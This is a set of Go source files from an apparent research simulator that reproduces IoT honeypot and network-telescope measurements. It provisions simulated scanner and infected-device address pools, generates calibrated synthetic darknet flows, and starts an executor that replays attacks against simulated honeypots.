// InfectedTargets says where an infected device sends attacks (Section 5.3)
// and whether the device is exposed-but-configured (the Censys-extension
// population) rather than misconfigured.
type InfectedTargets struct {
	Honeypots  bool
	Telescope  bool
	Configured bool
}

// NewSources builds the pools. universe may be nil when no infected-device
// correlation is needed.
func NewSources(seed uint64, universe *iot.Universe, rdns *geo.RDNS, gn *intel.GreyNoise) *Sources {
	return &Sources{
		src:        prng.New(seed),
		universe:   universe,
		rdns:       rdns,
		gn:         gn,
		classes:    make(map[netsim.IPv4]SourceClass),
		services:   make(map[netsim.IPv4]string),
		infectedAt: make(map[netsim.IPv4]InfectedTargets),
	}
}

// randomPublicIP draws an address outside reserved space and outside the
// universe prefix (ordinary Internet hosts).
func (s *Sources) randomPublicIP(gen *prng.Source) netsim.IPv4 {
	for {
		ip := netsim.IPv4(gen.Uint32())
		o := ip.Octets()
		if o[0] == 0 || o[0] == 10 || o[0] == 127 || o[0] >= 224 {
			continue
		}
		if s.universe != nil && s.universe.Config().Prefix.Contains(ip) {
			continue
		}
		if _, taken := s.classes[ip]; taken {
			continue
		}
		return ip
	}
}

// BuildScanningPool provisions n scanning-service addresses distributed by
// service share, registering them in reverse DNS and GreyNoise.
func (s *Sources) BuildScanningPool(n int) []netsim.IPv4 {
	gen := s.src.Derive(prng.HashString("scan-pool"))
	weights := make([]float64, len(KnownScanningServices))
	for i, svc := range KnownScanningServices {
		weights[i] = svc.Share
	}
	out := make([]netsim.IPv4, 0, n)
	for i := 0; i < n; i++ {
		ip := s.randomPublicIP(gen)
		svc := KnownScanningServices[gen.WeightedChoice(weights)]
		s.classes[ip] = ClassScanningService
		s.services[ip] = svc.Name
		if s.rdns != nil {
			s.rdns.RegisterService(ip, svc.Name)
		}
		if s.gn != nil {
			s.gn.RegisterBenign(ip)
		}
		out = append(out, ip)
	}
	return out
}

// BuildMaliciousPool provisions n malicious addresses. A calibrated share
// are infected misconfigured devices drawn from the universe (the Section
// 5.3 correlation); the rest are ordinary compromised hosts.
func (s *Sources) BuildMaliciousPool(n int, infectedFromUniverse []netsim.IPv4) []netsim.IPv4 {
	gen := s.src.Derive(prng.HashString("mal-pool"))
	out := make([]netsim.IPv4, 0, n)
	for _, ip := range infectedFromUniverse {
		if len(out) >= n {
			break
		}
		s.classes[ip] = ClassMalicious
		out = append(out, ip)
	}
	for len(out) < n {
		ip := s.randomPublicIP(gen)
		s.classes[ip] = ClassMalicious
		out = append(out, ip)
	}
	return out
}

// BuildUnknownPool provisions n unclassifiable addresses (one-time scanners,
// suspicious sources).
func (s *Sources) BuildUnknownPool(n int) []netsim.IPv4 {
	gen := s.src.Derive(prng.HashString("unk-pool"))
	out := make([]netsim.IPv4, 0, n)
	for i := 0; i < n; i++ {
		ip := s.randomPublicIP(gen)
		s.classes[ip] = ClassUnknown
		out = append(out, ip)
	}
	return out
}

// BuildTorPool provisions n Tor exit addresses (HTTP scrapers,
// Section 5.1.6) and registers them with the ExoneraTor-style relay list.
func (s *Sources) BuildTorPool(n int) []netsim.IPv4 {
	gen := s.src.Derive(prng.HashString("tor-pool"))
	out := make([]netsim.IPv4, 0, n)
	for i := 0; i < n; i++ {
		ip := s.randomPublicIP(gen)
		s.classes[ip] = ClassMalicious
		if s.rdns != nil {
			s.rdns.RegisterTorRelay(ip)
		}
		s.torExits = append(s.torExits, ip)
		out = append(out, ip)
	}
	return out
}

// DeriveInfected walks the universe and selects the infected devices per
// the Section 5.3 calibration, assigning each its target mix. Misconfigured
// devices are infected at InfectedShare (the 11,118); exposed-but-configured
// devices at ConfiguredInfectedShare (the Censys-extension population of
// 1,671 additional IoT attackers). The scan is linear over the prefix; cost
// is a few hashes per (address, protocol).
func (s *Sources) DeriveInfected() []netsim.IPv4 {
	if s.universe != nil && s.infected == nil {
		prefix := s.universe.Config().Prefix
		label := prng.HashString("infected")

		// Every per-address decision is a pure function of (seed, ip), so the
		// walk parallelizes with bit-identical output: chunks are merged in
		// address order, exactly the sequence the serial loop produced.
		type pick struct {
			ip netsim.IPv4
			t  InfectedTargets
		}
		decide := func(ip netsim.IPv4) (InfectedTargets, bool) {
			misconfigured, exposed := s.exposureOf(ip)
			if !exposed {
				return InfectedTargets{}, false
			}
			h := s.src.Hash64(label, uint64(ip))
			roll2 := prng.New(s.src.Hash64(label, uint64(ip), 2)).Float64()
			u := float64(h>>11) / (1 << 53)
			switch {
			case misconfigured && u < InfectedShare:
				t := InfectedTargets{Honeypots: true, Telescope: true}
				switch {
				case roll2 < InfectedHoneypotOnly:
					t = InfectedTargets{Honeypots: true}
				case roll2 < InfectedHoneypotOnly+InfectedTelescopeOnly:
					t = InfectedTargets{Telescope: true}
				}
				return t, true
			case !misconfigured && u < ConfiguredInfectedShare:
				t := InfectedTargets{Honeypots: true, Telescope: true, Configured: true}
				switch {
				case roll2 < ConfiguredHoneypotOnly:
					t = InfectedTargets{Honeypots: true, Configured: true}
				case roll2 < ConfiguredHoneypotOnly+ConfiguredTelescopeOnly:
					t = InfectedTargets{Telescope: true, Configured: true}
				}
				return t, true
			}
			return InfectedTargets{}, false
		}

		size := prefix.Size()
		workers := uint64(runtime.GOMAXPROCS(0))
		if workers > size {
			workers = 1
		}
		chunk := (size + workers - 1) / workers
		results := make([][]pick, workers)
		var wg sync.WaitGroup
		for w := uint64(0); w < workers; w++ {
			lo, hi := w*chunk, (w+1)*chunk
			if hi > size {
				hi = size
			}
			if lo >= hi {
				continue
			}
			wg.Add(1)
			go func(w, lo, hi uint64) {
				defer wg.Done()
				var picks []pick
				for i := lo; i < hi; i++ {
					ip := prefix.Nth(i)
					if t, ok := decide(ip); ok {
						picks = append(picks, pick{ip: ip, t: t})
					}
				}
				results[w] = picks
			}(w, lo, hi)
		}
		wg.Wait()
		for _, picks := range results {
			for _, p := range picks {
				s.infected = append(s.infected, p.ip)
				s.infectedAt[p.ip] = p.t
			}
		}
		sort.Slice(s.infected, func(i, j int) bool { return s.infected[i] < s.infected[j] })
	}
	return s.infected
}

// exposureOf reports whether ip exposes any scanned protocol and whether it
// is misconfigured on at least one.
func (s *Sources) exposureOf(ip netsim.IPv4) (misconfigured, exposed bool) {
	exposed, misconfigured = s.universe.ExposureAny(ip)
	return misconfigured, exposed
}

func (s *Sources) isMisconfigured(ip netsim.IPv4) bool {
	for _, p := range iot.ScannedProtocols {
		if spec, ok := s.universe.Spec(ip, p); ok && spec.Misconfig != iot.MisconfigNone {
			return true
		}
	}
	return false
}

// InfectedTargetsFor returns where an infected source attacks.
func (s *Sources) InfectedTargetsFor(ip netsim.IPv4) (InfectedTargets, bool) {
	t, ok := s.infectedAt[ip]
	return t, ok
}

// Class returns the ground-truth class of a source.
func (s *Sources) Class(ip netsim.IPv4) (SourceClass, bool) {
	c, ok := s.classes[ip]
	return c, ok
}

// ServiceOf returns which scanning service owns ip, if any.
func (s *Sources) ServiceOf(ip netsim.IPv4) (string, bool) {
	svc, ok := s.services[ip]
	return svc, ok
}

// ScanningServiceIPs returns all provisioned scanning-service addresses.
// Map iteration order is randomized by the runtime; deterministic consumers
// (the darknet source pool) must use ScanningServiceAddrs instead.
func (s *Sources) ScanningServiceIPs() map[netsim.IPv4]string {
	out := make(map[netsim.IPv4]string, len(s.services))
	for ip, svc := range s.services {
		out[ip] = svc
	}
	return out
}

// ScanningServiceAddrs returns the provisioned scanning-service addresses in
// ascending order, so pools carved from a prefix of the list are identical
// run to run.
func (s *Sources) ScanningServiceAddrs() []netsim.IPv4 {
	out := make([]netsim.IPv4, 0, len(s.services))
	for ip := range s.services {
		out = append(out, ip)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// TorExits returns the provisioned Tor exit addresses.
func (s *Sources) TorExits() []netsim.IPv4 {
	return append([]netsim.IPv4(nil), s.torExits...)
}

// Describe renders a short summary for logs.
func (s *Sources) Describe() string {
	counts := map[SourceClass]int{}
	for _, c := range s.classes {
		counts[c]++
	}
	return fmt.Sprintf("sources: %d scanning-service, %d malicious, %d unknown, %d infected",
		counts[ClassScanningService], counts[ClassMalicious], counts[ClassUnknown], len(s.infected))
}
