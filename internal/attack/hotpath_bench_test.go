package attack

import (
	"context"
	"testing"

	"openhire/internal/attack/malware"
	"openhire/internal/geo"
	"openhire/internal/netsim"
	"openhire/internal/telescope"
)

// BenchmarkDarknetDay measures one day of Table 8-calibrated darknet
// generation at the default CLI scale (1/8192), including telescope ingest
// and geo annotation. The before/after numbers live in BENCH_telescope.json.
func BenchmarkDarknetDay(b *testing.B) {
	prefix := netsim.MustParsePrefix("44.0.0.0/8")
	geodb := geo.NewDB(1, nil)
	b.ReportAllocs()
	var flows int
	for i := 0; i < b.N; i++ {
		tel := telescope.New(prefix, geodb)
		g := NewDarknetGenerator(DarknetConfig{
			Seed: 9, Telescope: tel, GeoDB: geodb, Scale: 1.0 / 8192, Days: 1,
		})
		flows = g.Run()
	}
	if flows > 0 {
		b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/float64(flows), "ns/flow")
	}
}

// BenchmarkCampaignReplay measures a scaled-down attack-month replay through
// the packet fabric into the honeypot log (amplified events included).
func BenchmarkCampaignReplay(b *testing.B) {
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		n, pots, log, u, clk := buildWorld(b)
		sources := NewSources(11, u, nil, nil)
		c := NewCampaign(CampaignConfig{
			Seed: 11, Network: n, Honeypots: pots, Universe: u,
			Sources: sources, Corpus: malware.NewCorpus(1, nil),
			Intensity: 0.01, Workers: 32, Clock: clk,
		})
		b.StartTimer()
		c.Run(context.Background())
		b.StopTimer()
		if log.Len() == 0 {
			b.Fatal("no events logged")
		}
		b.StartTimer()
	}
}
