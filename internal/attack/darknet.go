package attack

import (
	"time"

	"openhire/internal/geo"
	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/prng"
	"openhire/internal/telescope"
)

// TelescopeCalibration is one Table 8 row: daily packet volume and monthly
// unique sources per protocol, plus how many sources belong to scanning
// services.
type TelescopeCalibration struct {
	Protocol   iot.Protocol
	DailyCount uint64
	UniqueIPs  int
	ScanSvcIPs int
}

// PaperTelescope reproduces Table 8.
var PaperTelescope = []TelescopeCalibration{
	{iot.ProtoTelnet, 2554585920, 85615200, 4142},
	{iot.ProtoUPnP, 131794560, 18633, 2279},
	{iot.ProtoCoAP, 68353920, 2342, 627},
	{iot.ProtoMQTT, 17072640, 5572, 1248},
	{iot.ProtoAMQP, 13907520, 7132, 2256},
	{iot.ProtoXMPP, 6429600, 4255, 1973},
}

// DarknetConfig parameterizes telescope traffic generation.
type DarknetConfig struct {
	Seed uint64
	// Telescope receives the generated flows.
	Telescope *telescope.Telescope
	// Sources provides scanning-service addresses and infected devices.
	Sources *Sources
	// GeoDB annotates flows.
	GeoDB *geo.DB
	// Scale divides the paper's volumes: unique sources and packet counts
	// are multiplied by Scale (e.g. 1/8192). Must be in (0, 1].
	Scale float64
	// Days of traffic to generate (default 1).
	Days int
	// Start is the first day's timestamp (default ExperimentStart).
	Start time.Time
}

// DarknetGenerator produces Table 8-calibrated FlowTuple traffic. Volumes at
// paper scale (78 billion requests/day) are far beyond packet-level
// simulation, so flows are synthesized directly into the telescope with
// per-source packet counts; the *sources* are shared with the packet-level
// attack campaign, so cross-dataset correlation (Section 5.3) is faithful.
type DarknetGenerator struct {
	cfg DarknetConfig
	src *prng.Source
}

// NewDarknetGenerator validates cfg.
func NewDarknetGenerator(cfg DarknetConfig) *DarknetGenerator {
	if cfg.Scale <= 0 || cfg.Scale > 1 {
		cfg.Scale = 1.0 / 8192
	}
	if cfg.Days == 0 {
		cfg.Days = 1
	}
	if cfg.Start.IsZero() {
		cfg.Start = netsim.ExperimentStart
	}
	return &DarknetGenerator{cfg: cfg, src: prng.New(cfg.Seed)}
}

// Run generates the configured days of traffic. It returns the number of
// flows recorded.
func (g *DarknetGenerator) Run() int {
	flows := 0
	prefix := g.cfg.Telescope.Prefix()
	// Infected devices that target the telescope participate as Telnet
	// scanners (Mirai-style worms dominate Table 8's Telnet volume).
	var infected []netsim.IPv4
	if g.cfg.Sources != nil {
		for _, ip := range g.cfg.Sources.DeriveInfected() {
			if t, _ := g.cfg.Sources.InfectedTargetsFor(ip); t.Telescope {
				infected = append(infected, ip)
			}
		}
	}
	for _, cal := range PaperTelescope {
		flows += g.generateProtocol(cal, prefix, infected)
	}
	return flows
}

func (g *DarknetGenerator) generateProtocol(cal TelescopeCalibration,
	prefix netsim.Prefix, infected []netsim.IPv4) int {
	gen := g.src.Derive(prng.HashString("darknet"), prng.HashString(string(cal.Protocol)))

	nSources := scaleCount(cal.UniqueIPs, g.cfg.Scale)
	nScanSvc := scaleCount(cal.ScanSvcIPs, g.cfg.Scale)
	dailyPackets := uint64(float64(cal.DailyCount) * g.cfg.Scale)

	// Source pool: scanning services first, then infected devices (Telnet
	// only), then random suspicious hosts.
	sources := make([]netsim.IPv4, 0, nSources)
	if g.cfg.Sources != nil {
		for ip := range g.cfg.Sources.ScanningServiceIPs() {
			if len(sources) >= nScanSvc {
				break
			}
			sources = append(sources, ip)
		}
	}
	if cal.Protocol == iot.ProtoTelnet {
		for _, ip := range infected {
			if len(sources) >= nSources {
				break
			}
			sources = append(sources, ip)
		}
	}
	for len(sources) < nSources {
		ip := netsim.IPv4(gen.Uint32())
		o := ip.Octets()
		if o[0] == 0 || o[0] == 10 || o[0] == 127 || o[0] >= 224 || prefix.Contains(ip) {
			continue
		}
		sources = append(sources, ip)
	}

	// Packet volume per source is heavily skewed: a few infected hosts
	// scan constantly, most sources send a handful of probes.
	zipf := prng.NewZipfian(len(sources), 1.1)
	port := cal.Protocol.DefaultPort()
	transport := uint8(telescope.ProtoTCP)
	if cal.Protocol.Transport() == netsim.UDP {
		transport = telescope.ProtoUDP
	}

	flowCount := 0
	for day := 0; day < g.cfg.Days; day++ {
		dayStart := g.cfg.Start.Add(time.Duration(day) * 24 * time.Hour)
		remaining := dailyPackets
		// Each iteration emits one flow (source × dark destination) whose
		// PacketCnt share of the day's volume follows the skew.
		for remaining > 0 {
			srcIP := sources[zipf.Sample(gen)]
			pkts := uint64(1 + gen.Intn(64))
			if pkts > remaining {
				pkts = remaining
			}
			remaining -= pkts
			dst := prefix.Nth(gen.Uint64() % prefix.Size())
			ft := &telescope.FlowTuple{
				Time:      dayStart.Add(time.Duration(gen.Intn(24*3600)) * time.Second),
				SrcIP:     srcIP,
				DstIP:     dst,
				SrcPort:   uint16(32768 + gen.Intn(28232)),
				DstPort:   port,
				Protocol:  transport,
				TTL:       uint8(32 + gen.Intn(96)),
				PacketCnt: uint32(pkts),
				IsSpoofed: gen.Bool(0.03),
				IsMasscan: gen.Bool(0.08),
			}
			if transport == telescope.ProtoTCP {
				ft.TCPFlags = telescope.FlagSYN
				ft.SynLen = 44
				ft.SynWinLen = uint16(8192 + gen.Intn(57343))
				ft.IPLen = 40
			} else {
				ft.IPLen = uint16(28 + gen.Intn(64))
			}
			if g.cfg.GeoDB != nil {
				ft.CountryCC = string(g.cfg.GeoDB.Country(srcIP))
				ft.ASN = g.cfg.GeoDB.ASN(srcIP)
			}
			g.cfg.Telescope.Record(ft)
			flowCount++
		}
	}
	return flowCount
}
