package attack

import (
	"fmt"
	"runtime"
	"sync"
	"time"

	"openhire/internal/geo"
	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/prng"
	"openhire/internal/telescope"
)

// TelescopeCalibration is one Table 8 row: daily packet volume and monthly
// unique sources per protocol, plus how many sources belong to scanning
// services.
type TelescopeCalibration struct {
	Protocol   iot.Protocol
	DailyCount uint64
	UniqueIPs  int
	ScanSvcIPs int
}

// PaperTelescope reproduces Table 8.
var PaperTelescope = []TelescopeCalibration{
	{iot.ProtoTelnet, 2554585920, 85615200, 4142},
	{iot.ProtoUPnP, 131794560, 18633, 2279},
	{iot.ProtoCoAP, 68353920, 2342, 627},
	{iot.ProtoMQTT, 17072640, 5572, 1248},
	{iot.ProtoAMQP, 13907520, 7132, 2256},
	{iot.ProtoXMPP, 6429600, 4255, 1973},
}

// DarknetConfig parameterizes telescope traffic generation.
type DarknetConfig struct {
	Seed uint64
	// Telescope receives the generated flows.
	Telescope *telescope.Telescope
	// Sources provides scanning-service addresses and infected devices.
	Sources *Sources
	// GeoDB annotates flows.
	GeoDB *geo.DB
	// Scale divides the paper's volumes: unique sources and packet counts
	// are multiplied by Scale (e.g. 1/8192). Must be in (0, 1].
	Scale float64
	// Days of traffic to generate (default 1).
	Days int
	// Start is the first day's timestamp (default ExperimentStart).
	Start time.Time
	// Workers bounds generation concurrency (0 = GOMAXPROCS). Each
	// (protocol, day) unit owns a derived PRNG stream and a disjoint
	// telescope ordinal range, so the captured flows are byte-identical for
	// any worker count.
	Workers int
	// OnUnit, when set, is called once per finished (protocol, day) unit —
	// after the worker pool has joined, in fixed unit order, never from the
	// generation hot path — with that unit's flow count. Progress reporting
	// and per-unit metrics hang here; nil (the default) is byte-identical
	// to not having the hook.
	OnUnit func(protocol iot.Protocol, day, flows int)
}

// DarknetGenerator produces Table 8-calibrated FlowTuple traffic. Volumes at
// paper scale (78 billion requests/day) are far beyond packet-level
// simulation, so flows are synthesized directly into the telescope with
// per-source packet counts; the *sources* are shared with the packet-level
// attack campaign, so cross-dataset correlation (Section 5.3) is faithful.
//
// Generation fans out over (protocol, day) units: unit (p, d) seeds its flow
// stream with Derive("darknet", protocol, day) and writes telescope ordinals
// carved from range (p*Days+d+1)<<40, so scheduling never leaks into the
// output — 1 worker and GOMAXPROCS workers produce identical dumps.
type DarknetGenerator struct {
	cfg DarknetConfig
	src *prng.Source

	setup  sync.Once
	states []*protoState
}

// recordBatchSize is how many flows a unit accumulates per RecordBatch call
// (one lock acquisition per touched telescope shard).
const recordBatchSize = 256

// flowChunkSize bounds the zeroed slab a unit carves record batches from
// when its volume estimate overshoots this many flows.
const flowChunkSize = 65536

// unitSeqShift sizes each unit's ordinal range: 2^40 flows per unit-day is
// five orders of magnitude above full paper volume.
const unitSeqShift = 40

// protoState is the per-protocol input shared by that protocol's day units.
// It is built once, before generation starts, and read-only afterwards.
type protoState struct {
	cal          TelescopeCalibration
	sources      []netsim.IPv4
	alias        *prng.Alias // Zipf(1.1) over sources, O(1) per sample
	dailyPackets uint64
	port         uint16
	transport    uint8
}

// geoAnn memoizes one source's geo annotation within a generation unit. The
// Zipf skew concentrates draws on a few head sources, so the hit rate is
// ~99% and the geo database drops out of the per-flow cost.
type geoAnn struct {
	cc  string
	asn uint32
	ok  bool
}

// NewDarknetGenerator validates cfg.
func NewDarknetGenerator(cfg DarknetConfig) *DarknetGenerator {
	if cfg.Scale <= 0 || cfg.Scale > 1 {
		cfg.Scale = 1.0 / 8192
	}
	if cfg.Days == 0 {
		cfg.Days = 1
	}
	if cfg.Start.IsZero() {
		cfg.Start = netsim.ExperimentStart
	}
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.GOMAXPROCS(0)
	}
	return &DarknetGenerator{cfg: cfg, src: prng.New(cfg.Seed)}
}

// init derives the infected-device pool and per-protocol source pools once.
func (g *DarknetGenerator) init() {
	g.setup.Do(func() {
		prefix := g.cfg.Telescope.Prefix()
		// Infected devices that target the telescope participate as Telnet
		// scanners (Mirai-style worms dominate Table 8's Telnet volume).
		var infected []netsim.IPv4
		if g.cfg.Sources != nil {
			for _, ip := range g.cfg.Sources.DeriveInfected() {
				if t, _ := g.cfg.Sources.InfectedTargetsFor(ip); t.Telescope {
					infected = append(infected, ip)
				}
			}
		}
		for _, cal := range PaperTelescope {
			g.states = append(g.states, g.buildState(cal, prefix, infected))
		}
	})
}

// buildState provisions one protocol's source pool and samplers. The pool is
// seeded from Derive("darknet", protocol) — independent of day count and
// worker count.
func (g *DarknetGenerator) buildState(cal TelescopeCalibration,
	prefix netsim.Prefix, infected []netsim.IPv4) *protoState {
	gen := g.src.Derive(prng.HashString("darknet"), prng.HashString(string(cal.Protocol)))

	nSources := scaleCount(cal.UniqueIPs, g.cfg.Scale)
	nScanSvc := scaleCount(cal.ScanSvcIPs, g.cfg.Scale)

	// Source pool: scanning services first, then infected devices (Telnet
	// only), then random suspicious hosts. Scanning-service addresses come
	// sorted: ranging over the service map here made the pool — and every
	// dump derived from it — differ run to run.
	sources := make([]netsim.IPv4, 0, nSources)
	if g.cfg.Sources != nil {
		for _, ip := range g.cfg.Sources.ScanningServiceAddrs() {
			if len(sources) >= nScanSvc {
				break
			}
			sources = append(sources, ip)
		}
	}
	if cal.Protocol == iot.ProtoTelnet {
		for _, ip := range infected {
			if len(sources) >= nSources {
				break
			}
			sources = append(sources, ip)
		}
	}
	for len(sources) < nSources {
		ip := netsim.IPv4(gen.Uint32())
		o := ip.Octets()
		if o[0] == 0 || o[0] == 10 || o[0] == 127 || o[0] >= 224 || prefix.Contains(ip) {
			continue
		}
		sources = append(sources, ip)
	}

	st := &protoState{
		cal:     cal,
		sources: sources,
		// Packet volume per source is heavily skewed: a few infected hosts
		// scan constantly, most sources send a handful of probes.
		alias:        prng.NewZipfAlias(len(sources), 1.1),
		dailyPackets: uint64(float64(cal.DailyCount) * g.cfg.Scale),
		port:         cal.Protocol.DefaultPort(),
		transport:    telescope.ProtoTCP,
	}
	if cal.Protocol.Transport() == netsim.UDP {
		st.transport = telescope.ProtoUDP
	}
	return st
}

// Run generates the configured days of traffic across all protocols,
// fanning (protocol, day) units out over cfg.Workers goroutines. It returns
// the number of flows recorded.
func (g *DarknetGenerator) Run() int {
	g.init()
	units := make([]int, 0, len(g.states)*g.cfg.Days)
	for p := range g.states {
		for d := 0; d < g.cfg.Days; d++ {
			units = append(units, p*g.cfg.Days+d)
		}
	}
	return g.runUnits(units)
}

// RunDay generates one day's traffic for every protocol — the rotation path:
// callers interleave RunDay with Telescope.Drain to cut per-day capture
// files. day must be in [0, cfg.Days); unit streams and ordinals match the
// ones Run would use, so RunDay(0..Days-1) emits exactly Run's flow set.
func (g *DarknetGenerator) RunDay(day int) int {
	if day < 0 || day >= g.cfg.Days {
		panic(fmt.Sprintf("attack: RunDay(%d) outside configured %d days", day, g.cfg.Days))
	}
	g.init()
	units := make([]int, 0, len(g.states))
	for p := range g.states {
		units = append(units, p*g.cfg.Days+day)
	}
	return g.runUnits(units)
}

// runUnits executes the given (protocol, day) units on the worker pool.
func (g *DarknetGenerator) runUnits(units []int) int {
	// Pre-size the flow table from the planned volume so ingest skips the
	// doubling rehashes of a cold table. The per-unit estimate mirrors
	// generateUnit's chunk sizing (mean PacketCnt ≈ 32.5, /28 leaves slack);
	// flows already captured (the accumulating, non-rotating path) stay
	// counted so Reserve only ever widens.
	est := 0
	for _, u := range units {
		est += int(g.states[u/g.cfg.Days].dailyPackets / 28)
	}
	g.cfg.Telescope.Reserve(g.cfg.Telescope.Len() + est)
	workers := g.cfg.Workers
	if workers > len(units) {
		workers = len(units)
	}
	counts := make([]int, len(units))
	var wg sync.WaitGroup
	next := make(chan int, len(units))
	for i := range units {
		next <- i
	}
	close(next)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range next {
				unit := units[i]
				p, d := unit/g.cfg.Days, unit%g.cfg.Days
				counts[i] = g.generateUnit(g.states[p], d, unit)
			}
		}()
	}
	wg.Wait()
	total := 0
	for i, n := range counts {
		total += n
		if g.cfg.OnUnit != nil {
			unit := units[i]
			g.cfg.OnUnit(g.states[unit/g.cfg.Days].cal.Protocol, unit%g.cfg.Days, n)
		}
	}
	return total
}

// generateUnit emits one protocol-day of flows. All randomness comes from
// the unit's derived stream; several fields are packed into each 64-bit draw
// (disjoint bit ranges; moduli either exact powers of two or large enough
// that the bias is far below measurement noise), which roughly halves the
// PRNG cost per flow.
func (g *DarknetGenerator) generateUnit(st *protoState, day, unit int) int {
	gen := g.src.Derive(prng.HashString("darknet"),
		prng.HashString(string(st.cal.Protocol)), uint64(day))
	base := (uint64(unit) + 1) << unitSeqShift
	prefix := g.cfg.Telescope.Prefix()
	prefixSize := prefix.Size()
	dayStart := g.cfg.Start.Add(time.Duration(day) * 24 * time.Hour)

	ann := make([]geoAnn, len(st.sources))
	// Record batches are carved from larger zeroed chunks: RecordBatch indexes
	// the committed region in place, so as long as committed records are never
	// rewritten the chunk can keep absorbing flows. The first chunk is sized
	// from the day's expected flow count (mean PacketCnt 32.5, /28 leaves 16%
	// slack) so most units allocate exactly once.
	est := int(st.dailyPackets/28) + 16
	if est > flowChunkSize {
		est = flowChunkSize
	}
	chunk := make([]telescope.FlowTuple, est)
	idx, flushed := 0, 0 // write cursor and first uncommitted index in chunk
	n := 0
	flush := func() {
		if idx > flushed {
			g.cfg.Telescope.RecordBatch(base+uint64(n-(idx-flushed)), chunk[flushed:idx])
			flushed = idx
		}
	}

	remaining := st.dailyPackets
	isTCP := st.transport == telescope.ProtoTCP
	// Each iteration emits one flow (source × dark destination) whose
	// PacketCnt share of the day's volume follows the skew.
	for remaining > 0 {
		srcIdx := st.alias.Sample(gen)
		srcIP := st.sources[srcIdx]
		u2 := gen.Uint64() // dst offset | source port | SYN window / datagram len
		u3 := gen.Uint64() // time-of-day | TTL | packets | spoofed | masscan

		pkts := 1 + (u3>>39)&63
		if pkts > remaining {
			pkts = remaining
		}
		remaining -= pkts

		ft := &chunk[idx]
		idx++
		ft.Time = dayStart.Add(time.Duration((u3&0xffffffff)%86400) * time.Second)
		ft.SrcIP = srcIP
		ft.DstIP = prefix.Nth((u2 & 0xffffffff) % prefixSize)
		ft.SrcPort = uint16(32768 + (u2>>32&0xffff)%28232)
		ft.DstPort = st.port
		ft.Protocol = st.transport
		ft.TTL = uint8(32 + (u3>>32&0x7f)%96)
		ft.PacketCnt = uint32(pkts)
		ft.IsSpoofed = (u3>>45)&1023 < 31 // ≈3%
		ft.IsMasscan = (u3>>55)&511 < 41  // ≈8%
		if isTCP {
			ft.TCPFlags = telescope.FlagSYN
			ft.SynLen = 44
			ft.SynWinLen = uint16(8192 + (u2>>48)%57343)
			ft.IPLen = 40
		} else {
			ft.IPLen = uint16(28 + (u2>>48)&63)
		}
		if g.cfg.GeoDB != nil {
			a := &ann[srcIdx]
			if !a.ok {
				a.cc = string(g.cfg.GeoDB.Country(srcIP))
				a.asn = g.cfg.GeoDB.ASN(srcIP)
				a.ok = true
			}
			ft.CountryCC = a.cc
			ft.ASN = a.asn
		}
		n++
		if idx-flushed == recordBatchSize || idx == len(chunk) {
			flush()
			if idx == len(chunk) && remaining > 0 {
				chunk = make([]telescope.FlowTuple, flowChunkSize)
				idx, flushed = 0, 0
			}
		}
	}
	flush()
	return n
}
