package attack

import (
	"context"
	"fmt"
	"io"
	"strconv"
	"time"

	"openhire/internal/attack/malware"
	"openhire/internal/honeypot"
	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/prng"
	"openhire/internal/protocols/amqp"
	"openhire/internal/protocols/coap"
	"openhire/internal/protocols/ftp"
	httpx "openhire/internal/protocols/http"
	"openhire/internal/protocols/modbus"
	"openhire/internal/protocols/mqtt"
	"openhire/internal/protocols/s7"
	"openhire/internal/protocols/smb"
	"openhire/internal/protocols/ssh"
	"openhire/internal/protocols/telnet"
	"openhire/internal/protocols/upnp"
	"openhire/internal/protocols/xmpp"
)

// actionTimeout bounds one attack conversation.
const actionTimeout = 2 * time.Second

// Executor runs one attack event against a target endpoint. Implementations
// are the protocol-level attack primitives the paper's honeypots observed.
type Executor struct {
	net    *netsim.Network
	corpus *malware.Corpus
}

// NewExecutor builds an executor over the fabric.
func NewExecutor(n *netsim.Network, corpus *malware.Corpus) *Executor {
	return &Executor{net: n, corpus: corpus}
}

// credentialFor draws a Table 12-distributed credential pair.
func credentialFor(gen *prng.Source) (string, string) {
	pair := iot.DefaultCredentials[gen.Zipf(len(iot.DefaultCredentials), 1.1)]
	return pair.User, pair.Pass
}

// attackDialAttempts bounds SYN retries per attack conversation. Botnet
// loaders retry aggressively, so a lossy path mostly delays an attack
// rather than erasing it from the honeypot log.
const attackDialAttempts = 3

// dial opens one attack connection, retrying transient fault-model drops.
// On a perfect fabric the first attempt either connects or fails
// definitively (refused / unreachable), so campaign replays without faults
// behave exactly as before. Each retry passes a higher Attempt so the fault
// model draws fresh loss for it.
func (e *Executor) dial(ctx context.Context, src netsim.IPv4, ep netsim.Endpoint) (*netsim.ServiceConn, error) {
	var (
		conn *netsim.ServiceConn
		err  error
	)
	for a := uint32(0); a < attackDialAttempts; a++ {
		conn, err = e.net.Dial(ctx, src, ep, netsim.ProbeOptions{Attempt: a})
		if err != netsim.ErrProbeTimeout {
			break
		}
	}
	return conn, err
}

// Execute performs one attack of the given type from src against the
// honeypot's service for proto. It returns an error only for simulation
// faults; refused conversations are normal.
func (e *Executor) Execute(ctx context.Context, typ honeypot.AttackType, proto iot.Protocol,
	src netsim.IPv4, dst netsim.IPv4, gen *prng.Source) error {
	port := proto.DefaultPort()
	ep := netsim.Endpoint{IP: dst, Port: port}
	switch proto {
	case iot.ProtoTelnet:
		return e.telnetAttack(ctx, typ, src, ep, gen)
	case iot.ProtoSSH:
		return e.sshAttack(ctx, typ, src, ep, gen)
	case iot.ProtoMQTT:
		return e.mqttAttack(ctx, typ, src, ep, gen)
	case iot.ProtoAMQP:
		return e.amqpAttack(ctx, typ, src, ep, gen)
	case iot.ProtoXMPP:
		return e.xmppAttack(ctx, typ, src, ep, gen)
	case iot.ProtoCoAP:
		return e.coapAttack(typ, src, ep, gen)
	case iot.ProtoUPnP:
		return e.upnpAttack(typ, src, ep, gen)
	case iot.ProtoHTTP:
		return e.httpAttack(ctx, typ, src, ep, gen)
	case iot.ProtoFTP:
		return e.ftpAttack(ctx, typ, src, ep, gen)
	case iot.ProtoSMB:
		return e.smbAttack(ctx, typ, src, ep, gen)
	case iot.ProtoS7:
